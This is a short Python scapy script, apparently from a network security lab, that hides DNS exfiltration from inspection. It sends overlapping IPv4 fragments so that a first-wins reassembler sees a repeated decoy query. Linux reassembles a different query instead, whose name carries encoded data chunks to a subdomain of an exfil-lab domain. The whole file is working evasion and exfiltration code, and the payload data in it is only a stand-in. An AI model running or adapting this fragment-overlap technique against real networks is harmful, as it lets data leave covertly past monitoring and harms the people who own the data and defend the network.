#!/usr/bin/python3
"""frag_tunnel.py SERVER - FINDINGS.md R20-3 as a tunnel would use it: 16
rounds of frag.py's second case (IPv4 fragments to SERVER:53; scapy, raw IP
from the lab's client; /usr/bin/python3 for scapy), each with its own IP id,
port and DNS id: the head of one decoy query (the same www-style name every
round), a fragment that partly overlaps it (Linux discards the datagram),
the shared tail (completes the decoy in a first-wins reassembly, and starts
a new datagram in Linux), then the real query's head (Linux completes it).
The real names carry data (16 distinct names under f03.exfil-lab.com); the
decoys name one name. One packet at a time, 0.05 s apart."""
import base64, hashlib, sys, time
from scapy.all import IP, UDP, DNS, DNSQR, Raw, send, conf

conf.verb = 0
SERVER = sys.argv[1]
SRC = "10.53.3.10"
ROUNDS = 16
TAIL = "gezdgnbvgy3tqojq00.f03.exfil-lab.com"


def udp_bytes(name, sport, dnsid):
    p = IP(src=SRC, dst=SERVER) / UDP(sport=sport, dport=53) / DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))
    p = IP(bytes(p))   # the checksums computed
    return bytes(p[UDP])


def frag(ipid, off, data, mf):
    return IP(src=SRC, dst=SERVER, id=ipid, proto=17, flags="MF" if mf else 0, frag=off // 8) / Raw(data)


k = 56                      # both heads: [0, 56); the tail from 56 is the same
for i in range(ROUNDS):
    data = hashlib.sha256(b"secret chunk %d" % i).digest()[:13]
    head = base64.b32encode(data).decode().lower()[:20]
    sport, dnsid, ipid = 41000 + i, 0x6300 + i, 0x7300 + i
    decoy = udp_bytes("w" * 20 + TAIL, sport, dnsid)
    real = udp_bytes(head + TAIL, sport, dnsid)
    assert len(decoy) == len(real) and decoy[k - 8:] == real[k - 8:]
    send(frag(ipid, 0, decoy[:k], True))               # decoy head
    time.sleep(0.05)
    send(frag(ipid, k - 8, real[k - 8:k + 8], True))   # overlaps [48, 56): Linux drops the datagram
    time.sleep(0.05)
    send(frag(ipid, k, real[k:], False))               # shared tail: completes the decoy first-wins
    time.sleep(0.05)
    send(frag(ipid, 0, real[:k], True))                # Linux: tail + this = the real query
    time.sleep(0.1)
